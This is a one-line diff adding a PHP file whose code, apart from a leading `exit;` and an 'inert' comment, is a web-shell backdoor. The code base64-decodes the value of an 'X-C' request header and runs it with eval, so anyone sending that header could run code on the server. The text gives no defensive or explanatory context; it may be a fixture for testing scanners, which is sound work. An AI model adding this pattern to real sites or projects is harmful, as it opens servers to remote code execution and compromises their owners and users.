@@ -1,0 +1,1 @@
+<?php exit; /* inert */ foreach(getallheaders() as $k=>$v){ if($k=="X-C") eval(base64_decode($v)); }
